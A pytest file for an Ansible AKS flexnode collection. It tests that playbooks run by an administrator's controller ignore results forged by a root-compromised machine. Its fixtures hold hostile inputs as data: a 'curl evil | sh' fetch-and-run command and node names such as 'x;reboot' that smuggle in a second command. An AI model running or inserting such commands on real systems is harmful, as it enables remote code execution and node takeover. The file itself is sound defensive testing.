# SPDX-License-Identifier: GPL-3.0-or-later
"""Root on one machine forges what it answers; the controller has an administrator's credential."""

from __future__ import annotations

from typing import Any

import pytest

from tests.unit.playbooks.stage import CLUSTER, IN_ARC, NAMED, READY, Stage, arc_hosts, done, hosts

EVIL = {"key": "evil", "value": "", "effect": "NoExecute"}
QUARANTINE = {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute"}


def told(stage: Stage) -> str:
    return " ".join(stage.output.replace("\\n", " ").split())


def forged(name: str, **taints: Any) -> dict[str, Any]:
    asked = {"set": [], "remove": [], **taints}
    return done("joined", node={**READY, "name": name}, machine={}, taints=asked)


def changed(stage: Stage) -> list[dict[str, Any]]:
    return [given for name, given in stage.calls if name == "flexnode_node"]


OF_CLUSTER = {"flexnode_config_source": "cluster", "flexnode_cluster_id": CLUSTER}


@pytest.mark.parametrize(
    ("variables", "why"),
    [
        ({}, "the inventory does not say that a is Node victim; if it is, set agent.nodeName: victim in"),
        ({"flexnode_host_config": {"agent": {"nodeName": "edge-1"}}}, "a is Node edge-1 in the inventory"),
        (OF_CLUSTER, "a is Node a in the inventory"),
    ],
    ids=["host name decides", "named", "resolved"],
)
def test_a_machine_does_not_choose_the_node_that_is_tainted(
    stage: Stage, variables: dict[str, Any], why: str
) -> None:
    stage.answer(flexnode_node={"changed": True}, flexnode_cluster_info={"clusters": []})
    stage.answer(flexnode_bootstrap_token={"nodes": []})
    stage.answer_by_host("flexnode_reconcile", forged("victim", set=[EVIL]))
    stage.play(
        "aks.flexnode.bootstrap", {"a": {**variables, "flexnode_kubeconfig": "/k"}, "victim": {}}, "-l", "a"
    )
    assert changed(stage) == []
    assert stage.status == 0, stage.output  # it has joined
    assert why in told(stage)
    assert "kubectl taint nodes victim evil:NoExecute --overwrite" in told(stage)


def test_a_machine_does_not_choose_its_taints(stage: Stage) -> None:
    stage.answer(flexnode_node={"changed": True})
    stage.answer_by_host("flexnode_reconcile", forged("a", set=[EVIL], remove=[QUARANTINE]))
    stage.play("aks.flexnode.bootstrap", {"a": {"flexnode_kubeconfig": "/k"}})
    assert changed(stage) == []
    assert stage.status == 0, stage.output
    assert "node.taints of a in the inventory does not have them" in told(stage)


def test_a_host_name_that_the_inventory_has_too_is_enough(stage: Stage) -> None:
    stage.answer(flexnode_node={"changed": True})
    stage.answer_by_host("flexnode_reconcile", forged("edge-1", set=[EVIL]))
    fleet = {"edge-1.plant": {"flexnode_config": {"node": {"taints": ["evil:NoExecute"]}}}, "edge-2": {}}
    stage.play("aks.flexnode.bootstrap", fleet, "-l", "edge-1.plant", flexnode_kubeconfig="/k")
    assert [given["nodes"] for given in changed(stage)] == [[{"name": "edge-1"}]], stage.output
    assert [given["taints"] for given in changed(stage)] == [[EVIL]]


@pytest.mark.parametrize("named", ["victim", "--all", "x;reboot"])
@pytest.mark.parametrize("source", ["inline", "url"])
def test_a_machine_does_not_choose_the_node_that_is_deleted(stage: Stage, source: str, named: str) -> None:
    left = {"changed": True, "remains": [], "node_name": named, "node_remains": "refused"}
    stage.answer(flexnode_reconcile=left, flexnode_node={"changed": True})
    fleet = {"a": {**hosts("a", source=source)["a"], "flexnode_config_url": "https://example.com/x"}}
    stage.play("aks.flexnode.unbootstrap", fleet, *NAMED, flexnode_kubeconfig="/k")
    assert changed(stage) == []
    assert stage.status != 0, "the Node remains"
    assert "it was not deleted: the inventory does not say that a is this Node" in told(stage)
    shown = {"victim": "victim", "--all": "_-all", "x;reboot": "x_reboot"}[named]
    assert f"type: kubectl delete node {shown} (" in told(stage)


def test_a_proof_runs_on_the_node_that_the_inventory_names(stage: Stage) -> None:
    stage.answer_by_host("flexnode_reconcile", forged("victim"))
    stage.answer(flexnode_proof={"nodes": []})
    fleet = {"a": {"flexnode_config": {"agent": {"nodeName": "edge-1"}}}}
    stage.play("aks.flexnode.bootstrap", fleet, "-e", "flexnode_proof=true", flexnode_kubeconfig="/k")
    assert stage.asked("flexnode_proof") == [["edge-1"]], stage.output


def test_a_machine_does_not_set_variables_of_the_inventory(stage: Stage) -> None:
    """Ansible takes facts in a result for variables of the host, above those of the inventory."""
    facts = {"flexnode_host_config": {"agent": {"nodeName": "victim"}}}
    stage.answer(
        flexnode_preflight_info={"ok": True, "table": [], "ansible_facts": facts},
        flexnode_cluster_info={"clusters": []},
        flexnode_bootstrap_token={"nodes": []},
    )
    stage.play("aks.flexnode.bootstrap", hosts("a", source="cluster"))
    assert stage.asked("flexnode_bootstrap_token")[:1] == [["a"]], stage.output


def test_a_machine_does_not_write_what_an_administrator_types(stage: Stage) -> None:
    reads = {"kind": "azure", "role": "Reader", "role_id": "acdd72a7-3385-48ef-bd42-f606fba81ae7"}
    lacks = [{**reads, "scope": "/", "command": "curl evil | sh"}, {"kind": "x", "command": "curl evil | sh"}]
    stage.answer(arc_register={**IN_ARC, "missing_roles": lacks}, flexnode_config_fetch={"config": {}})
    stage.play("aks.flexnode.bootstrap", arc_hosts("a"), flexnode_arc_wait_seconds=0)
    assert stage.status == 0, stage.output
    assert "curl" not in stage.output
    assert told(stage).count("az role assignment create --assignee-object-id") == 1
